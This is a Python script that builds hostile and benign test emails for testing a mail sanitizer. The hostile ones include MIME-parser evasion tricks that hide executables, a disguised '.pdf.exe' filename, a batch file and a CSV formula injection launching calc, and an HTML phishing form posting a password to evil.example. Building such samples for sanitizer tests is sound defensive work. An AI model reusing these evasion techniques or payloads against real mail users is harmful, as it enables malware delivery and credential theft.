#!/usr/bin/env python3
"""Make the mail samples in corpus/mail/ (hostile and benign) and the fuzzing
seeds in corpus/seeds/mail/.

One sample per Mail row of shared/THREATS.md, plus Japanese charsets and
attachments of every kind Mugai sanitizes. Messages are written by hand
(not with Python's email package) so that the malformed ones are exactly as
malformed as intended. Every sample is small; the over-sized ones (huge
header, size limit) are made by the tests at run time.

    python3 corpus/make-mail.py
"""
import base64
import os
import quopri
import zlib

HERE = os.path.dirname(os.path.abspath(__file__))
OUT = os.path.join(HERE, "mail")
SEEDS = os.path.join(HERE, "seeds", "mail")
CLAM = "/usr/share/clamav-testfiles"

EICAR = (b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR"
         b"-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*")


def read(path):
    with open(path, "rb") as f:
        return f.read()


PE = read(os.path.join(HERE, "blocked", "program.exe"))
JPEG_EXIF = read(os.path.join(HERE, "jpeg", "exif.jpg"))


def b64(data):
    s = base64.b64encode(data).decode()
    return "\r\n".join(s[i:i + 76] for i in range(0, len(s), 76))


def ew(text, charset="UTF-8", codec=None):
    """An RFC 2047 B word."""
    raw = text.encode(codec or charset)
    return "=?%s?B?%s?=" % (charset, base64.b64encode(raw).decode())


def headers(subject, extra="", frm="Sender <sender@example.jp>"):
    return ("Return-Path: <sender@example.jp>\r\n"
            "Received: from mx.example.jp (mx.example.jp [192.0.2.1])\r\n"
            "\tby gw.example.lg.jp with ESMTP id 4AbC; Mon, 1 Jul 2024 09:00:00 +0900\r\n"
            "Date: Mon, 1 Jul 2024 09:00:00 +0900\r\n"
            "From: %s\r\n"
            "To: staff@example.lg.jp\r\n"
            "Subject: %s\r\n"
            "Message-ID: <%s@example.jp>\r\n"
            "MIME-Version: 1.0\r\n%s") % (frm, subject, zlib.crc32(subject.encode()), extra)


def part(ctype, body, cte=None, disp=None):
    h = "Content-Type: %s\r\n" % ctype
    if disp:
        h += "Content-Disposition: %s\r\n" % disp
    if cte:
        h += "Content-Transfer-Encoding: %s\r\n" % cte
    return h + "\r\n" + body + "\r\n"


def multipart(sub, boundary, parts, preamble=""):
    s = preamble
    for p in parts:
        s += "--%s\r\n%s" % (boundary, p)
    return s + "--%s--\r\n" % boundary


def mime(subject, sub, boundary, parts, frm="Sender <sender@example.jp>"):
    return (headers(subject, 'Content-Type: multipart/%s; boundary="%s"\r\n\r\n' % (sub, boundary),
                    frm) + multipart(sub, boundary, parts)).encode()


def att(name_param, data, ctype="application/octet-stream"):
    return part("%s; name=\"%s\"" % (ctype, name_param), b64(data), "base64",
                "attachment; filename=\"%s\"" % name_param)


TEXT_JA = "お世話になっております。\r\n請求書を添付します。\r\n"


def plain(text=TEXT_JA):
    return part("text/plain; charset=UTF-8", b64(text.encode()), "base64")


samples = {}

# --- structure -----------------------------------------------------------

# Two boundary parameters: some readers take the first, some the last.
samples["dup-boundary.eml"] = (
    headers("duplicate boundary",
            'Content-Type: multipart/mixed; boundary="aaa"; boundary="bbb"\r\n\r\n')
    + multipart("mixed", "aaa", [plain("visible to first-boundary readers\r\n")])
    + multipart("mixed", "bbb", [att("payload.exe", PE)])).encode()

# A delimiter glued to the end of a text line: strict parsers see text,
# lenient ones see a new part holding a program.
samples["boundary-no-crlf.eml"] = (
    headers("boundary without CRLF", 'Content-Type: multipart/mixed; boundary="zzz"\r\n\r\n')
    + "--zzz\r\nContent-Type: text/plain\r\n\r\nhello--zzz\r\n"
    + att("hidden.exe", PE) + "--zzz--\r\n").encode()

# A program hidden as a third "alternative" of the body.
samples["alternative-hidden-exe.eml"] = mime(
    "hidden in alternative", "alternative", "alt1",
    [plain("plain version\r\n"),
     part("text/html; charset=UTF-8", "<p>html version</p>"),
     att("update.exe", PE)])

# RFC 2231 continuations assembling attached.bat.
samples["rfc2231-bat.eml"] = mime(
    "rfc2231", "mixed", "b2231",
    [plain("see attachment\r\n"),
     "Content-Type: application/octet-stream\r\n"
     "Content-Disposition: attachment;\r\n filename*0*=us-ascii''attac;\r\n filename*1*=hed.bat\r\n"
     "Content-Transfer-Encoding: base64\r\n\r\n" + b64(b"@echo off\r\ncalc.exe\r\n") + "\r\n"])

# RFC 2047 (ISO-2022-JP) file name of a program posing as a PDF.
name_exe = ew("請求書.pdf.exe", "ISO-2022-JP", "iso2022_jp")
samples["rfc2047-exe.eml"] = mime(
    ew("請求書の送付", "ISO-2022-JP", "iso2022_jp"), "mixed", "b2047",
    [plain(), att(name_exe, PE)])

# A Japanese-named text attachment that must survive with its name.
samples["japanese-filename.eml"] = mime(
    ew("報告書", "ISO-2022-JP", "iso2022_jp"), "mixed", "bja",
    [plain("報告書を送ります。\r\n"),
     "Content-Type: text/plain; charset=UTF-8\r\n"
     "Content-Disposition: attachment; filename*=UTF-8''%E5%A0%B1%E5%91%8A%E6%9B%B8.txt\r\n"
     "Content-Transfer-Encoding: base64\r\n\r\n" + b64("報告書の本文です。\r\n".encode()) + "\r\n"])

# Nested message/rfc822: HTML with a script, a program and a photo inside.
inner = mime("inner message", "mixed", "inner1",
             [part("text/html; charset=UTF-8",
                   "<html><body><script>alert('x')</script><p>inner text</p></body></html>"),
              att("inner.exe", PE),
              att("photo.jpg", JPEG_EXIF, "image/jpeg")])
samples["nested-rfc822.eml"] = mime(
    "forwarded", "mixed", "outer1",
    [plain("forwarding\r\n"),
     part("message/rfc822", inner.decode(), None, "attachment; filename=\"fwd.eml\"")])

# --- inline encodings ----------------------------------------------------


def uuencode(name, data):
    lines = ["begin 644 %s" % name]
    for i in range(0, len(data), 45):
        chunk = data[i:i + 45]
        enc = chr(32 + len(chunk))
        pad = chunk + b"\0" * ((3 - len(chunk) % 3) % 3)
        for j in range(0, len(pad), 3):
            a, b_, c = pad[j], pad[j + 1], pad[j + 2]
            for v in (a >> 2, ((a & 3) << 4) | (b_ >> 4), ((b_ & 15) << 2) | (c >> 6), c & 63):
                enc += chr(32 + v) if v else "`"
        lines.append(enc)
    lines += ["`", "end"]
    return "\r\n".join(lines) + "\r\n"


samples["uuencode.eml"] = (headers("uuencoded", "Content-Type: text/plain; charset=us-ascii\r\n\r\n")
                           + "Here is the tool:\r\n\r\n" + uuencode("tool.exe", PE)
                           + "\r\nand the notes:\r\n" + uuencode("notes.txt", b"plain notes\r\n")
                           + "\r\nbye\r\n").encode()


def yenc(name, data):
    out, line = [], ""
    for b_ in data:
        c = (b_ + 42) & 0xFF
        if c in (0, 10, 13, 61):
            line += "=" + chr((c + 64) & 0xFF)
        else:
            line += chr(c)
        if len(line) >= 128:
            out.append(line)
            line = ""
    if line:
        out.append(line)
    body = "=ybegin line=128 size=%d name=%s\r\n" % (len(data), name)
    body += "\r\n".join(out) + "\r\n=yend size=%d\r\n" % len(data)
    return body.encode("latin-1")


samples["yenc.eml"] = (headers("yenc", "Content-Type: text/plain; charset=us-ascii\r\n\r\n").encode()
                       + b"before\r\n" + yenc("data.txt", b"yenc payload text\r\n") + b"after\r\n")

binhex_body = read(os.path.join(CLAM, "clam.exe.binhex")) if os.path.exists(
    os.path.join(CLAM, "clam.exe.binhex")) else b"(This file must be converted with BinHex 4.0)\r\n:abc:\r\n"
# A BinHex block of a harmless file (not the ClamAV sample: that one is
# detected as malware and would hold the whole message).
binhex_fake = (b"(This file must be converted with BinHex 4.0)\r\n\r\n"
               b":$f*TEQKPH#jdCA0d,R0TG!\"849K8)&09!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!\r\n"
               b"!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!:\r\n")
samples["binhex.eml"] = (headers("binhex", "Content-Type: text/plain; charset=us-ascii\r\n\r\n").encode()
                         + b"Mac file below\r\n" + binhex_fake + b"thanks\r\n")

# --- TNEF, encryption, signatures ------------------------------------------

# A TNEF stream header (signature 0x223E9F78) and junk: not unpacked.
tnef = bytes.fromhex("789f3e22") + b"\x01\x00" + b"\x01\x06\x90\x08\x00\x04\x00\x00\x00" + b"x" * 64
samples["tnef.eml"] = mime("winmail", "mixed", "btnef",
                           [plain("TNEF attached\r\n"), att("winmail.dat", tnef, "application/ms-tnef")])
if os.path.exists(os.path.join(CLAM, "clam.tnef")):
    samples["tnef-clam.eml"] = mime("winmail clam", "mixed", "btnef2",
                                    [plain("TNEF attached\r\n"),
                                     att("winmail.dat", read(os.path.join(CLAM, "clam.tnef")),
                                         "application/ms-tnef")])

samples["smime-encrypted.eml"] = (headers(
    "smime", 'Content-Type: application/pkcs7-mime; smime-type=enveloped-data; name="smime.p7m"\r\n'
    "Content-Disposition: attachment; filename=\"smime.p7m\"\r\n"
    "Content-Transfer-Encoding: base64\r\n\r\n") + b64(b"\x30\x80\x06\x09\x2a\x86\x48\x86\xf7\x0d\x01\x07\x03" + b"\0" * 40) + "\r\n").encode()

samples["pgp-encrypted.eml"] = mime(
    "pgp", "encrypted; protocol=\"application/pgp-encrypted\"", "bpgp",
    [part("application/pgp-encrypted", "Version: 1"),
     part("application/octet-stream; name=\"encrypted.asc\"",
          "-----BEGIN PGP MESSAGE-----\r\n\r\nhQEMA1234567890abcdef\r\n=abcd\r\n-----END PGP MESSAGE-----")])

samples["pgp-inline.eml"] = (headers("inline pgp", "Content-Type: text/plain; charset=us-ascii\r\n\r\n")
                             + "-----BEGIN PGP MESSAGE-----\r\n\r\nhQEMA1234567890\r\n-----END PGP MESSAGE-----\r\n").encode()

samples["smime-signed.eml"] = mime(
    "signed", "signed; protocol=\"application/pkcs7-signature\"; micalg=sha-256", "bsig",
    [plain("署名付きの本文です。\r\n"),
     part("application/pkcs7-signature; name=\"smime.p7s\"", b64(b"\x30\x82\x01\x00" + b"\1" * 64),
          "base64", "attachment; filename=\"smime.p7s\"")])

# --- HTML ------------------------------------------------------------------

html = ("<html><head><title>t</title><style>p{color:red}</style>"
        "<script>document.location='http://evil.example/'</script></head><body>"
        "<p>ご確認ください。Please <a href=\"https://portal.example.jp/login\">log in</a>.</p>"
        "<img src=\"http://tracker.example/pixel.gif\" width=\"1\" height=\"1\">"
        "<img src=\"https://cdn.example/logo.png\" alt=\"Logo\">"
        "<iframe src=\"http://evil.example/frame\">frame text</iframe>"
        "<a href=\"javascript:alert(1)\">click me</a>"
        "<form action=\"http://evil.example/post\"><input type=\"password\" name=\"pw\">"
        "<input type=\"submit\" value=\"Send\"></form>"
        "<ul><li>一つ目</li><li>二つ目</li></ul>"
        "<table><tr><th>品目</th><th>金額</th></tr><tr><td>A</td><td>100</td></tr></table>"
        "<object data=\"x.swf\"></object><embed src=\"y.swf\">"
        "</body></html>")
samples["html-remote.eml"] = (headers("html", "Content-Type: text/html; charset=UTF-8\r\n"
                                      "Content-Transfer-Encoding: quoted-printable\r\n\r\n")
                              .encode() + quopri.encodestring(html.encode()).replace(b"\n", b"\r\n"))

# --- Japanese charsets -------------------------------------------------------

def iso2022jp(text):
    """ISO-2022-JP as Japanese mailers write it (CP50220): JIS X 0208 rows
    from the CP932 encoding, so NEC row 13 (circled digits) is included."""
    out, mode = b"", "ascii"
    for ch in text:
        if ord(ch) < 0x80:
            if mode != "ascii":
                out += b"\x1b(B"
                mode = "ascii"
            out += ch.encode()
            continue
        s1, s2 = ch.encode("cp932")
        # Shift_JIS -> JIS X 0208 row/cell
        row = ((s1 - (0x70 if s1 < 0xA0 else 0xB0)) << 1) - (1 if s2 < 0x9F else 0)
        cell = s2 - (0x1F if s2 < 0x7F else (0x20 if s2 < 0x9F else 0x7E))
        if mode != "jis":
            out += b"\x1b$B"
            mode = "jis"
        out += bytes([row, cell])
    if mode != "ascii":
        out += b"\x1b(B"
    return out


BODY_JA = "会議の資料を送付いたします。\r\n①議事録 ②日程表\r\n株式会社テスト 山田太郎\r\n"
samples["iso-2022-jp.eml"] = (headers(ew("会議資料のご送付", "ISO-2022-JP", "iso2022_jp"),
                                      "Content-Type: text/plain; charset=ISO-2022-JP\r\n"
                                      "Content-Transfer-Encoding: 7bit\r\n\r\n",
                                      frm="%s <yamada@example.jp>" % ew("山田 太郎", "ISO-2022-JP", "iso2022_jp"))
                              .encode() + iso2022jp(BODY_JA))
samples["shift_jis.eml"] = (headers(ew("会議資料のご送付", "Shift_JIS", "cp932"),
                                    "Content-Type: text/plain; charset=Shift_JIS\r\n"
                                    "Content-Transfer-Encoding: 8bit\r\n\r\n")
                            .encode() + BODY_JA.encode("cp932"))
samples["euc-jp.eml"] = (headers(ew("会議資料のご送付", "EUC-JP", "euc_jp"),
                                 "Content-Type: text/plain; charset=EUC-JP\r\n"
                                 "Content-Transfer-Encoding: 8bit\r\n\r\n")
                         .encode() + BODY_JA.replace("①", "1.").replace("②", "2.").encode("euc_jp"))

# --- transfer encoding, attachments that come back sanitized ----------------

bad = b64(b"%PDF-1.4 not really") 
bad = bad[:8] + "*!*" + bad[8:]
samples["malformed-base64.eml"] = mime(
    "bad base64", "mixed", "bb64",
    [part("text/plain; charset=UTF-8", "5pys5paH*44Gn44GZ44CC", "base64"),
     "Content-Type: application/pdf; name=\"doc.pdf\"\r\nContent-Disposition: attachment; "
     "filename=\"doc.pdf\"\r\nContent-Transfer-Encoding: base64\r\n\r\n" + bad + "\r\n"])

samples["jpeg-exif.eml"] = mime("photo", "mixed", "bjpg",
                                [plain("写真です。\r\n"), att("photo.jpg", JPEG_EXIF, "image/jpeg")])

samples["csv-formula.eml"] = mime(
    "csv", "mixed", "bcsv",
    [plain("集計表\r\n"), att("sheet.csv", b"name,value\r\n=cmd|' /C calc'!A0,1\r\n@SUM(1+1),2\r\n", "text/csv")])

if os.path.exists(os.path.join(CLAM, "clam.exe")):
    samples["clam-exe.eml"] = mime("clam", "mixed", "bclam",
                                   [plain("tool\r\n"), att("clam.exe", read(os.path.join(CLAM, "clam.exe")))])

samples["eicar.eml"] = mime("eicar", "mixed", "beicar", [plain("test\r\n"), att("eicar.txt", EICAR, "text/plain")])

# Plain benign messages (also the fuzzing seeds).
samples["plain.eml"] = (headers("hello", "Content-Type: text/plain; charset=us-ascii\r\n\r\n")
                        + "Hello,\r\nthis is a plain message.\r\n").encode()
samples["html-alternative.eml"] = mime(
    ew("お知らせ"), "alternative", "balt",
    [part("text/plain; charset=UTF-8", "お知らせです。\r\nhttps://example.jp/\r\n", "8bit"),
     part("text/html; charset=UTF-8", "<p>お知らせです。<a href=\"https://example.jp/\">リンク</a></p>", "8bit")])

os.makedirs(OUT, exist_ok=True)
os.makedirs(SEEDS, exist_ok=True)
for name, data in sorted(samples.items()):
    with open(os.path.join(OUT, name), "wb") as f:
        f.write(data)
# Seeds: small and varied, no malware (a crash seed must replay anywhere).
for name in ["plain.eml", "html-alternative.eml", "iso-2022-jp.eml", "shift_jis.eml",
             "rfc2231-bat.eml", "rfc2047-exe.eml", "nested-rfc822.eml", "uuencode.eml", "yenc.eml",
             "binhex.eml", "smime-signed.eml", "html-remote.eml", "malformed-base64.eml",
             "dup-boundary.eml", "boundary-no-crlf.eml", "alternative-hidden-exe.eml", "tnef.eml"]:
    data = samples[name]
    if len(data) > 8192:
        continue
    with open(os.path.join(SEEDS, name), "wb") as f:
        f.write(data)
print("wrote %d samples to %s" % (len(samples), OUT))
